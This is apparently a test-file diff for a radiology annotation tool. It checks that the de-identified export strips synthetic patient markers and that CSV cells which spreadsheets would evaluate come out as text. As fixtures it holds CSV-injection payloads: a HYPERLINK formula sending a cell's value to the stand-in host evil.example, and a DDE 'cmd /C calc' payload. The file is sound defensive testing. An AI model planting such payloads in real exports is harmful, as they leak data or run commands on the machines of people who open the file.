@@ -1,0 +1,231 @@
+/**
+ * The annotation export as an outside checker attacks it (#9 item 7), through the CLI
+ * (`radlabel export`) on a catalog of two studies:
+ * - a GB18030 study written with pydicom whose every text field carries a marker (patient name and
+ *   id, other ids, institution and address, physicians, descriptions, a private tag, a nested
+ *   sequence), annotated with text repeating the patient's identifying values (an attribute, an
+ *   arrow's text, a segment's name) and hostile text (a CSV formula, quotes, commas, newlines,
+ *   Chinese);
+ * - the fixture CT study.
+ * Checked: --deid output of every format holds no marker and no original UID in any byte of any
+ * file (the .nii.gz inflated) nor in any file or folder name; CSV cells that a spreadsheet would
+ * run are text, and the CSV reads back (Python's csv, utf-8-sig) as the stored values; failures
+ * are said per item with the right exit status and no half-written file.
+ */
+import { spawnSync } from 'node:child_process';
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import path from 'node:path';
+import zlib from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { imageToWorld, readSeriesGeometry } from '../../../main/annotation/dicom/geometry.js';
+import { ensureCtSeries, makeTempDir } from '../../fixtures/index.js';
+import { runCliInProcess } from '../../support/cli.js';
+import { importAndWait } from '../../support/import.js';
+import { openTestServices } from '../../support/services.js';
+
+const PYTHON = '/usr/bin/python3';
+const scratch = makeTempDir('export-audit');
+const dataDir = path.join(scratch, 'data');
+const ct = ensureCtSeries({ slices: 4, size: 32, seed: 'export-audit' });
+const cli = (...args: string[]) => runCliInProcess(args, { ...process.env, RADLABEL_DATA_DIR: dataDir });
+
+const UIDS = {
+  study: '1.2.826.0.1.3680043.8.498.4242001',
+  series: '1.2.826.0.1.3680043.8.498.4242002',
+  frame: '1.2.826.0.1.3680043.8.498.4242003',
+  sop: (k: number) => `1.2.826.0.1.3680043.8.498.4242010.${k + 1}`,
+};
+const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+const HOSTILE = 'a, "quoted"\nsecond line, 肝脏病变，边界清楚';
+
+function markerStudy(dir: string): string[] {
+  fs.mkdirSync(dir, { recursive: true });
+  const script = `
+import sys, json, numpy as np, pydicom
+from pydicom.dataset import Dataset, FileMetaDataset
+from pydicom.uid import ExplicitVRLittleEndian
+out, u = sys.argv[1], json.loads(sys.argv[2])
+for k in range(4):
+    meta = FileMetaDataset(); meta.TransferSyntaxUID = ExplicitVRLittleEndian
+    meta.MediaStorageSOPClassUID = '1.2.840.10008.5.1.4.1.1.2'; meta.MediaStorageSOPInstanceUID = u['sops'][k]
+    d = Dataset(); d.file_meta = meta
+    d.SpecificCharacterSet = 'GB18030'
+    d.SOPClassUID = meta.MediaStorageSOPClassUID; d.SOPInstanceUID = u['sops'][k]
+    d.StudyInstanceUID = u['study']; d.SeriesInstanceUID = u['series']; d.FrameOfReferenceUID = u['frame']
+    d.Modality = 'CT'; d.StudyDate = '20240105'; d.StudyTime = '101010'; d.StudyID = 'ZQXACC991'
+    d.PatientName = 'Zqxfamily^Qwgiven=赵钱孙'; d.PatientID = 'ZQXPID4471'; d.PatientBirthDate = '19600101'; d.PatientSex = 'F'
+    d.OtherPatientIDs = 'ZQXOTHER88'; d.AccessionNumber = 'ZQXACC991'
+    d.InstitutionName = 'Zqxinstitute Hospital'; d.InstitutionAddress = '12 Zqxstreet'
+    d.ReferringPhysicianName = 'Zqxreferrer^Doc'; d.StudyDescription = 'zqxstudydesc chest'
+    d.SeriesDescription = 'zqxseriesdesc axial'; d.SeriesNumber = 1; d.InstanceNumber = k + 1
+    d.add_new(0x00110010, 'LO', 'ZQX PRIVATE'); d.add_new(0x00111001, 'LO', 'zqxprivate value')
+    item = Dataset(); item.RequestedProcedureDescription = 'zqxnested procedure'; item.RequestedProcedureID = 'ZQXPID4471'
+    d.RequestAttributesSequence = [item]
+    d.Rows = 16; d.Columns = 16; d.PixelSpacing = [0.8, 0.8]; d.SliceThickness = 2
+    d.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]; d.ImagePositionPatient = [0, 0, 2 * k]
+    d.SamplesPerPixel = 1; d.PhotometricInterpretation = 'MONOCHROME2'
+    d.BitsAllocated = 16; d.BitsStored = 16; d.HighBit = 15; d.PixelRepresentation = 1
+    d.RescaleSlope = 1; d.RescaleIntercept = -1024
+    d.PixelData = (np.arange(256).reshape(16, 16) + 100 * k).astype('<i2').tobytes()
+    d.save_as(f'{out}/{k}.dcm', write_like_original=False)
+`;
+  const sops = [0, 1, 2, 3].map(UIDS.sop);
+  const result = spawnSync(PYTHON, ['-c', script, dir, JSON.stringify({ ...UIDS, sop: undefined, sops })], {
+    encoding: 'utf8',
+  });
+  if (result.status !== 0) throw new Error(result.stderr);
+  return [0, 1, 2, 3].map((k) => path.join(dir, `${k}.dcm`));
+}
+
+/** A CSV file read by Python's csv module (utf-8-sig): a list of rows. */
+function pythonCsv(file: string): string[][] {
+  const result = spawnSync(
+    PYTHON,
+    [
+      '-c',
+      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))))',
+      file,
+    ],
+    { encoding: 'utf8' },
+  );
+  if (result.status !== 0) throw new Error(result.stderr);
+  return JSON.parse(result.stdout) as string[][];
+}
+
+let markerFiles: string[] = [];
+
+beforeAll(async () => {
+  markerFiles = markerStudy(path.join(scratch, 'marker-study'));
+  const geometry = readSeriesGeometry(markerFiles);
+  const services = openTestServices(dataDir);
+  try {
+    await importAndWait(services, [path.dirname(markerFiles[0]!), ct.dir], { failOnErrors: false });
+    // A label named like a spreadsheet formula.
+    await services.handlers['schema.load']({
+      json: JSON.stringify({
+        id: 'export-audit',
+        name: 'Export audit',
+        version: '1',
+        labels: [
+          {
+            id: 'lesion',
+            name: { en: FORMULA, 'zh-CN': '病灶' },
+            color: '#e6194b',
+            kind: 'measurement',
+            tools: ['Length', 'ArrowAnnotate'],
+            attributes: [],
+          },
+        ],
+        questions: [],
+      }),
+    });
+    const slice = geometry.slices[1]!;
+    const p = (x: number, y: number) => imageToWorld(geometry, slice, [x, y]);
+    const base = {
+      studyInstanceUID: UIDS.study,
+      seriesInstanceUID: UIDS.series,
+      sopInstanceUID: slice.sopInstanceUID,
+      kind: 'measurement' as const,
+      parentIds: [],
+      source: 'human' as const,
+      author: '@SUM(1+1)*cmd|" /C calc"!A0',
+      status: 'complete' as const,
+      deleted: false,
+    };
+    await services.handlers['annotation.save']({
+      versions: [
+        {
+          ...base,
+          versionId: crypto.randomUUID(),
+          annotationUid: 'a0c1b2d3-0000-4000-8000-000000000001',
+          tool: 'Length',
+          labelId: 'lesion',
+          attributes: { comment: `Zqxfamily Qwgiven 赵钱孙 ZQXPID4471 told us; ${HOSTILE}`, sign: '-2+3' },
+          data: {
+            metadata: { toolName: 'Length', FrameOfReferenceUID: UIDS.frame },
+            data: {
+              handles: { points: [p(2, 2), p(12, 9)] },
+              cachedStats: {
+                [`imageId:wadouri:x?sop=${slice.sopInstanceUID}`]: { length: 9.7468, unit: 'mm' },
+              },
+            },
+          },
+        },
+        {
+          ...base,
+          versionId: crypto.randomUUID(),
+          annotationUid: 'a0c1b2d3-0000-4000-8000-000000000002',
+          tool: 'ArrowAnnotate',
+          attributes: {},
+          data: {
+            metadata: { toolName: 'ArrowAnnotate', FrameOfReferenceUID: UIDS.frame },
+            data: { text: 'Zqxfamily ZQXPID4471 赵钱孙', handles: { points: [p(3, 3), p(8, 8)] } },
+          },
+        },
+      ],
+    });
+    const voxels = new Uint8Array(16 * 16);
+    for (let y = 4; y < 10; y++) for (let x = 4; x < 10; x++) voxels[y * 16 + x] = 1;
+    await services.handlers['segmentation.saveSlices']({
+      annotationUid: 'marker-seg',
+      versionId: 'marker-seg-v1',
+      parentVersionId: null,
+      deleted: false,
+      studyInstanceUID: UIDS.study,
+      seriesInstanceUID: UIDS.series,
+      width: 16,
+      height: 16,
+      bits: 8,
+      layers: 1,
+      segments: [
+        {
+          segmentIndex: 1,
+          name: 'Zqxfamily 赵钱孙 ZQXPID4471 nodule',
+          color: '#dd0000',
+          visible: true,
+          locked: false,
+          layer: 0,
+          labelValue: 1,
+        },
+      ],
+      slices: geometry.slices.slice(1, 3).map((s) => ({
+        layer: 0,
+        sopInstanceUID: s.sopInstanceUID,
+        frame: 1,
+        data: zlib.deflateSync(voxels).toString('base64'),
+      })),
+    });
+  } finally {
+    await services.close();
+  }
+}, 120_000);
+
+afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));
+
+describe('CSV: formulas are text and every value reads back', () => {
+  it('a spreadsheet gets no formula; Python csv (utf-8-sig) reads the stored values back', async () => {
+    const out = path.join(scratch, 'csv');
+    expect((await cli('export', '--format', 'csv', out, '--study', UIDS.study)).status).toBe(0);
+    const file = path.join(out, 'measurements.csv');
+    const bytes = fs.readFileSync(file);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const rows = pythonCsv(file);
+    const header = rows[0]!;
+    expect(header[0]).toBe('study_uid');
+    const body = rows.slice(1);
+    expect(body).toHaveLength(2);
+    for (const row of body) {
+      expect(row).toHaveLength(header.length);
+      // No cell a spreadsheet would evaluate (a number such as -12.5 is not text).
+      for (const cell of row) if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const length = body.find((r) => r[header.indexOf('tool')] === 'Length')!;
+    expect(length[header.indexOf('label')]).toBe(`'${FORMULA}`);
+    expect(length[header.indexOf('author')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+    expect(Math.abs(Number(length[header.indexOf('length_mm')]) - 9.7468)).toBeLessThan(0.1);
+    const attributes = JSON.parse(length[header.indexOf('attributes')]!) as Record<string, string>;
+    expect(attributes['comment']).toContain(HOSTILE);
+    expect(attributes['sign']).toBe('-2+3');
+  });
+});
